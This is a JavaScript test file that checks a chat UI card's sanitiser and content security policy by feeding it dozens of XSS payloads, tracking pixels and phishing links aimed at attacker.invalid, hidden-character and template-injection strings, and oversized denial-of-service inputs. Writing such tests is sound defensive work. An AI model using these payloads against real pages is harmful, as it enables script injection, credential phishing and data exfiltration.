// What an answer, a question, an id or an error may try: it is shown as text or removed, and nothing leaves the frame.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch, listen, openCard, requestsOf, result, serveHosts } from "./harness.mjs";
import { COMPLETED, FAILED } from "./samples.mjs";

const AWAY = "http://attacker.invalid";

// [the attack, a text that must still be readable]; without a text, removal is right.
const ATTACKS = [
  ["<script>top.pwned=1</script>", "top.pwned=1"],
  ["<SCRIPT SRC=http://attacker.invalid/x.js></SCRIPT>", "attacker.invalid/x.js"],
  ["text<script>\nalert(1)\n</script>more", "alert(1)"],
  ["<img src=x onerror=alert(1)>", "onerror=alert(1)"],
  ['<img src="http://attacker.invalid/pixel.gif">', "pixel.gif"],
  ["<img\nsrc=`http://attacker.invalid/a`>", "attacker.invalid/a"],
  ["![pixel](http://attacker.invalid/pixel.gif)", "pixel"],
  ["![pixel][p]\n\n[p]: http://attacker.invalid/pixel.gif", "pixel"],
  ["[![nested](http://attacker.invalid/i.png)](http://attacker.invalid/l)", "nested"],
  ["![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", "data:image/svg"],
  ["<svg onload=alert(1)>", "onload=alert(1)"],
  ["<svg><script>alert(1)</script></svg>", "alert(1)"],
  ['<svg><image href="http://attacker.invalid/s"/></svg>', "attacker.invalid/s"],
  ["<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "onbegin"],
  ["<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "maction"],
  ["<iframe src=http://attacker.invalid></iframe>", "iframe"],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', "srcdoc"],
  ["<object data=http://attacker.invalid></object>", "object"],
  ["<embed src=http://attacker.invalid>", "embed"],
  ["<link rel=stylesheet href=http://attacker.invalid/x.css>", "x.css"],
  ["<style>@import 'http://attacker.invalid/x.css'; * { display: none }</style>", "@import"],
  ["<style>body{background:url(http://attacker.invalid/b)}</style>", "background"],
  ['<p style="position:fixed;inset:0;background:url(http://attacker.invalid)">over</p>', "over"],
  ["<base href=http://attacker.invalid/>", "base"],
  ['<meta http-equiv="refresh" content="0;url=http://attacker.invalid">', "refresh"],
  ["<form action=http://attacker.invalid><input name=password><button>Sign in</button></form>", "Sign in"],
  ["<button onclick=alert(1) autofocus onfocus=alert(1)>x</button>", "autofocus"],
  ["<details open ontoggle=alert(1)>x</details>", "ontoggle"],
  ["<video><source onerror=alert(1)></video>", "onerror"],
  ["<audio src=http://attacker.invalid/a autoplay>", "autoplay"],
  ["<body onload=alert(1)>", "onload"],
  ["<template><script>alert(1)</script></template>", "alert(1)"],
  ["<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "onerror"],
  ["<!--<img src=x onerror=alert(1)>-->", "onerror"],
  ["<![CDATA[<script>alert(1)</script>]]>", "alert(1)"],
  ["<?php echo 1 ?>", "echo"],
  ["<a href=javascript:alert(1)>click</a>", "click"],
  ["[click](javascript:alert(1))", "javascript:alert(1)"],
  ["[click](JaVaScRiPt:alert(1))", "alert(1)"],
  ["[click](java&#115;&#99;ript:alert(1))", "click"],
  ["[click](javas\tcript:alert(1))", "click"],
  ["[click](\u0001javascript:alert(1))", "click"],
  ["[click](<javascript:alert(1)>)", "click"],
  ["[click](vbscript:msgbox(1))", "click"],
  ["[click](data:text/html,<script>alert(1)</script>)", "click"],
  ["[click](file:///etc/passwd)", "click"],
  ["[click](blob:http://attacker.invalid/1)", "click"],
  ["[click](//attacker.invalid/x)", "click"],
  ["<javascript:alert(1)>", "javascript:alert(1)"],
  ["[click][j]\n\n[j]: javascript:alert(1)", "click"],
  ['[click](http://attacker.invalid "\\" onmouseover=\\"alert(1)")', "click"],
  ["[https://www.contit.cloud](https://attacker.invalid/login)", "attacker.invalid/login"],
  ["[sign in](https://www.contit.cloud@attacker.invalid/)", "attacker.invalid"],
  ["[sign in](https://www.contit.cloud.sign-in.a-very-long-name-that-hides-the-end.attacker.invalid/x)", "attacker.invalid"],
  ["[sign in](https://www.cоntit.cloud/)", "xn--"],
  ["&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"],
  ["&#60;img src=x onerror=alert(1)&#62;", "onerror"],
  ["`<img src=x onerror=alert(1)>`", "onerror"],
  ["```html\n<script>alert(1)</script>\n```", "alert(1)"],
  ['```"><script>alert(1)</script>\nx\n```', "x"],
  ["| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |", "onerror"],
  ["# <img src=x onerror=alert(1)>", "onerror"],
  ["- [ ] <img src=x onerror=alert(1)>", "onerror"],
  ["evil \u202egpj.exe\u202c", "gpj.exe"],
  ["\u2066isolate\u2069 \u200bzero\u200b \u2060joiner", "zero"],
  ["tag \u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} characters", "characters"],
  ["nul \u0000 and escape \u001b[31m red", "red"],
  ["{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>", "constructor"],
  ["__proto__ constructor toString &constructor; &__proto__;", "constructor"],
  ["[x](constructor) [y](__proto__:z)", "constructor"],
  ["Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f".repeat(200), "Z"],
];

// Text that costs time or depth; each stays readable.
const HEAVY = {
  "5,000 nested quotes": `${">".repeat(5_000)} deep`,
  "2,000 nested lists": Array.from({ length: 2_000 }, (_, n) => `${" ".repeat(n)}- deep`).join("\n"),
  "60 nested lists": Array.from({ length: 60 }, (_, n) => `${"  ".repeat(n)}- deep`).join("\n"),
  "5,000 nested emphases": `${"*a **b ".repeat(5_000)} deep`,
  "10,000 brackets": `${"[".repeat(10_000)} deep`,
  "a table of 200 x 500": `${`|${"h|".repeat(200)}\n|${"-|".repeat(200)}\n`}${`|${"deep|".repeat(200)}\n`.repeat(500)}`,
  "100,000 elements": "*deep* ".repeat(100_000),
  "a megabyte of text": `deep ${"All work and no play. ".repeat(48_000)}`,
  "a megabyte without a space": `deep${"x".repeat(1_048_576)}`,
  "120,000 characters of underscores": `${"__a_ ".repeat(23_900)} deep`,
  "60,000 characters of quotes": "> deep\nb\n".repeat(6_600),
};

const ELEMENTS = new Set(
  "p h3 h4 h5 h6 ul ol li blockquote pre code table thead tbody tr th td strong em del br hr div span".split(" "),
);
const ATTRIBUTES = new Set("class dir tabindex role aria-label scope title start style".split(" "));

let browser, hosts, card;
before(async () => {
  [browser, hosts] = await Promise.all([launch(), serveHosts()]);
  card = await openCard(browser, hosts, { answers: { "tools/call contit_response": () => new Promise(() => {}) } });
});
after(async () => {
  await browser.close();
  hosts.close();
});

async function harmless(readable) {
  const { frame, seen, page } = card;
  await frame.waitForFunction((text) => document.querySelector(".turn").textContent.includes(text), readable); // it draws after the message
  const found = await frame.evaluate(() => ({
    text: document.querySelector(".turn").textContent,
    elements: [...document.querySelectorAll(".turn .answer *")].map((it) => it.localName),
    attributes: [...document.querySelectorAll(".turn .answer *")].flatMap((it) => it.getAttributeNames()),
    styles: [...document.querySelectorAll(".turn .answer [style]")].map((it) => it.getAttribute("style")),
    others: [...document.querySelectorAll(".turn .question *, .turn .failure *, .turn .state-text *")].length,
    sent: document.querySelectorAll("iframe, img, svg:not(.logo), link, form, input, object, embed, video, audio, base").length,
    away: location.href,
  }));
  assert.deepEqual([...new Set(found.elements)].filter((name) => !ELEMENTS.has(name)), []);
  assert.deepEqual([...new Set(found.attributes)].filter((name) => !ATTRIBUTES.has(name)), []);
  assert.deepEqual(found.styles.filter((style) => !/^--digits: \d+;$/.test(style)), []);
  assert.equal(found.others + found.sent, 0);
  assert.equal(found.away, "about:srcdoc");
  assert.ok(!/[\u0000\u001b\u202a-\u202e\u2060-\u2069\u200b\u{e0000}-\u{e007f}]/u.test(found.text), "a hidden character is shown");
  assert.ok(found.text.includes(readable), `${JSON.stringify(readable)} is not in ${JSON.stringify(found.text.slice(0, 500))}`);
  assert.deepEqual(seen.dialogs, []);
  assert.deepEqual(seen.policy, []);
  assert.deepEqual(requestsOf(seen, frame), []);
  assert.deepEqual(seen.requests.filter(([, url]) => url.startsWith(AWAY)), []);
  assert.equal(await page.evaluate(() => window.pwned), undefined);
}

for (const [attack, readable] of ATTACKS) {
  test(`an attack in each place: ${JSON.stringify(attack).slice(1, 90)}`, async () => {
    await card.drive("input", { prompt: attack, thread_id: attack });
    await card.drive("result", result({ ...COMPLETED, response: attack, thread_id: attack, run_id: attack, next_step: attack }));
    await harmless(readable);
    await card.drive("result", result({ ...FAILED, error: attack, thread_id: attack, run_id: attack }));
    await harmless(readable.includes("xn--") ? "sign in" : readable.replace(/^<script>alert\(1\)<\/script>$/, "alert(1)"));
    await card.drive("result", { content: [{ type: "text", text: attack }] });
    await harmless(readable);
  });
}

for (const [name, attack] of Object.entries(HEAVY)) {
  test(name, async () => {
    const began = performance.now();
    await card.drive("input", { prompt: "?" });
    await card.drive("result", result({ ...COMPLETED, response: attack }));
    await card.frame.waitForFunction(() => document.querySelector(".answer").textContent.includes("deep"));
    await harmless("deep");
    const seconds = (performance.now() - began) / 1000;
    assert.ok(seconds < 8, `${seconds} s`);
  });
}

test("results that no server of ours sends are shown or ignored, and break nothing", async () => {
  const odd = [
    {}, { content: [] }, { content: [{ type: "image", data: "x", mimeType: "image/png" }] }, { structuredContent: null, content: [] },
    result({ status: "completed", response: 5 }), result({ status: "completed", response: "" }), result({ status: "__proto__" }),
    result({ ...COMPLETED, elapsed_seconds: "x", next_offset: -1 }), result({ ...COMPLETED, thread_id: {}, run_id: [] }),
    result({ ...FAILED, error: { a: 1 } }), { structuredContent: [], content: [{ type: "text", text: "list" }] },
  ];
  for (const each of odd) {
    await card.drive("result", { content: [], ...each });
    assert.equal(await card.frame.evaluate(() => document.querySelectorAll("section.turn").length), 1);
  }
  assert.deepEqual(card.seen.errors, []);
});

for (const host of ["bridge", "mcp-ui"]) {
  test(`a script that got into the card could load and send nothing, in the host ${host}`, async () => {
    let arrived = 0;
    const away = await listen(() => {
      arrived++;
      return ["text/plain", "here"];
    });
    const other = await openCard(browser, hosts, { host });
    const done = await other.frame.evaluate(async (url) => {
      const script = document.createElement("script");
      script.textContent = "window.pwned = 1";
      const style = document.createElement("style");
      style.textContent = "main { display: none }";
      const loading = ["script", "img", "iframe"].map((tag) => Object.assign(document.createElement(tag), { src: `${url}/${tag}` }));
      document.body.append(script, style, ...loading);
      const fetched = await fetch(url, { mode: "no-cors" }).then(() => true, () => false);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return [window.pwned, fetched, getComputedStyle(document.querySelector("main")).display];
    }, away.url);
    assert.deepEqual(done, [undefined, false, "block"]);
    assert.equal(arrived, 0);
    assert.ok(other.seen.policy.length >= 5, "the policy reports each of them");
    await other.close();
    away.close();
  });
}
